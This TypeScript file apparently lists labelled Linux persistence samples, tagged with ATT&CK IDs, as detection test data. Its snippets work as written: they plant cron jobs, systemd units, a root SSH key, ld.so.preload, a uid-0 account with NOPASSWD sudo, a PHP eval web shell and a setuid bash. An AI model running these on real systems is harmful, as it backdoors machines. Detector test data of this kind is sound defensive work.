// Ways to come back after a restart or a login.
import type { Trait } from './trait.ts'

const shell = (lines: readonly string[]): string => `#!/bin/bash\n${lines.join('\n')}\n`

export const PERSISTENCE: readonly Trait[] = [
  {
    name: 'cron job through crontab',
    language: 'shell',
    source: shell([`(crontab -l 2>/dev/null; echo '*/5 * * * * /var/tmp/.cache/agent -q') | crontab -`]),
    shows: { trace_adds_cron_job: ['T1053.003'] },
    label: 'suspicious',
    tells: ['*/5 * * * * /var/tmp/.cache/agent -q'],
  },
  {
    name: 'cron file written by a program',
    language: 'c',
    source: String.raw`
#include <stdio.h>
int main(void) {
  FILE *job = fopen("/etc/cron.d/sysstat-collect", "w");
  if (!job) return 1;
  fputs("* * * * * root /usr/local/bin/upd >/dev/null 2>&1\n", job);
  return fclose(job);
}`,
    shows: { trace_adds_cron_job: ['T1053.003'] },
    label: 'unknown',
    tells: ['/etc/cron.d/sysstat-collect', '/usr/local/bin/upd'],
  },
  {
    name: 'systemd unit by a Python script',
    language: 'python',
    source: String.raw`
import os
unit = "[Unit]\nDescription=D-Bus broker helper\n[Service]\nExecStart=/usr/lib/.dbus/helper\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
with open("/etc/systemd/system/dbus-helper.service", "w") as out:
    out.write(unit)
os.makedirs("/etc/systemd/system/multi-user.target.wants", exist_ok=True)
os.symlink("/etc/systemd/system/dbus-helper.service", "/etc/systemd/system/multi-user.target.wants/dbus-helper.service")
`,
    shows: { trace_adds_systemd_unit: ['T1543.002'] },
    label: 'suspicious',
    tells: ['ExecStart=/usr/lib/.dbus/helper'],
  },
  {
    name: 'rc.local and an init script',
    language: 'perl',
    source: String.raw`#!/usr/bin/perl
open my $rc, '>>', '/etc/rc.local' or die; print $rc "/usr/bin/.sshd2 &\nexit 0\n"; close $rc; chmod 0755, '/etc/rc.local';
open my $init, '>', '/etc/init.d/sshd2' or die; print $init "#!/bin/sh\n/usr/bin/.sshd2 &\n"; close $init; chmod 0755, '/etc/init.d/sshd2';
`,
    shows: { trace_adds_systemd_unit: ['T1037.004'] },
    label: 'unknown',
    tells: ['/etc/rc.local', '/etc/init.d/sshd2'],
  },
  {
    name: 'start files of the shell',
    language: 'shell',
    source: shell([
      `for user in /root /home/*; do echo '(setsid /var/tmp/.k/run >/dev/null 2>&1 &)' >> "$user/.bashrc"; done`,
      `echo 'nohup /var/tmp/.k/run &' > /etc/profile.d/lang.sh`,
    ]),
    shows: { trace_changes_shell_start: ['T1546.004'] },
    label: 'malicious',
    tells: ['/home/anna/.bashrc', '/etc/profile.d/lang.sh'],
  },
  {
    name: 'key for ssh',
    language: 'c',
    source: String.raw`
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
  const char *key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDexample rsa-key-20260101\n";
  mkdir("/root/.ssh", 0700);
  int keys = open("/root/.ssh/authorized_keys", O_WRONLY | O_CREAT | O_APPEND, 0600);
  if (keys < 0 || write(keys, key, strlen(key)) < 0) return 1;
  return fchmod(keys, 0600);
}`,
    shows: { trace_adds_ssh_key: ['T1098.004'] },
    label: 'suspicious',
    tells: ['rsa-key-20260101'],
    core: true,
  },
  {
    name: 'library for every program, then a service',
    language: 'shell',
    source: shell([
      `printf '\\177ELF not really a library' > /usr/lib/libsysaudit.so.1`,
      `echo /usr/lib/libsysaudit.so.1 > /etc/ld.so.preload`,
      `printf '[Service]\\nExecStart=/usr/sbin/auditd2\\n' > /usr/lib/systemd/system/auditd2.service`,
    ]),
    shows: { trace_preloads_library: ['T1574.006'], trace_adds_systemd_unit: ['T1543.002'] },
    label: 'suspicious',
    core: true,
  },
  {
    name: 'udev rule',
    language: 'shell',
    source: shell([
      `mkdir -p /etc/udev/rules.d`,
      `echo 'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/lib/udev/.netwatch"' > /etc/udev/rules.d/99-net.rules`,
    ]),
    shows: { trace_hooks_system_start: ['T1546.017'] },
    label: 'suspicious',
    tells: ['RUN+=', '99-net.rules'],
  },
  {
    name: 'desktop autostart and systemd of the user',
    language: 'python',
    source: String.raw`
import os
home = "/home/anna/.config"
os.makedirs(home + "/autostart", exist_ok=True)
open(home + "/autostart/update-notifier2.desktop", "w").write("[Desktop Entry]\nType=Application\nExec=/home/anna/.local/share/.upd\nHidden=false\n")
os.makedirs(home + "/systemd/user", exist_ok=True)
open(home + "/systemd/user/pulse.timer", "w").write("[Timer]\nOnBootSec=1min\n")
`,
    shows: { trace_adds_systemd_unit: ['T1543.002'], trace_writes_startup_folder: ['T1547.013'] },
    label: 'suspicious',
  },
  {
    name: 'account with the number of root, and a line for sudo',
    language: 'shell',
    source: shell([
      `echo 'support:x:0:0::/root:/bin/bash' >> /etc/passwd`,
      `mkdir -p /etc/sudoers.d; echo 'support ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-support`,
    ]),
    shows: { trace_adds_user_account: ['T1136.001', 'T1548.003'] },
    label: 'malicious',
  },
  {
    name: 'password module and message of the day',
    language: 'shell',
    source: shell([
      `mkdir -p /etc/pam.d /etc/update-motd.d`,
      `echo 'auth sufficient pam_unix2.so' >> /etc/pam.d/common-auth`,
      `printf '#!/bin/sh\\n/usr/bin/.m &\\n' > /etc/update-motd.d/98-help; chmod +x /etc/update-motd.d/98-help`,
    ]),
    shows: { trace_hooks_system_start: ['T1556.003', 'T1037'] },
    label: 'suspicious',
  },
  {
    name: 'a page of the site that runs what visitors send',
    language: 'shell',
    source: shell([`echo '<?php @eval(base64_decode($_POST["k"])); ?>' > /var/www/html/wp-cache.php`]),
    shows: { trace_plants_web_shell: ['T1505.003'] },
    label: 'suspicious',
    tells: ['/var/www/html/wp-cache.php'],
  },
  {
    name: 'a job for later',
    language: 'shell',
    source: shell([`echo '/var/tmp/agent' | at now + 5 minutes`]),
    shows: { trace_adds_cron_job: ['T1053.002'] },
    label: 'suspicious',
  },
  {
    name: 'shell with the rights of root for all',
    language: 'shell',
    source: shell([`cp /bin/bash /var/tmp/.b`, `chmod 4755 /var/tmp/.b`]),
    shows: { trace_raises_rights: ['T1548.001'], trace_hides_files: ['T1564.001'] },
    label: 'malicious',
  },
]
